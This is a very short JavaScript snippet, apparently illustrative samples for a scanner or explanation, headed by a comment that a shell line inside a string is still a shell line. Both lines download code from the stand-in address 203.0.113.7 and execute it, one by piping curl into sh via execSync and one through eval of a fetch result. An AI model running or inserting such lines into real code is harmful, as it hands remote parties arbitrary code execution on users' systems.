// a shell line in a string is still a shell line
require('child_process').execSync('curl -s http://203.0.113.7/x | sh')
//---
eval(await (await fetch('http://203.0.113.7/x')).text())
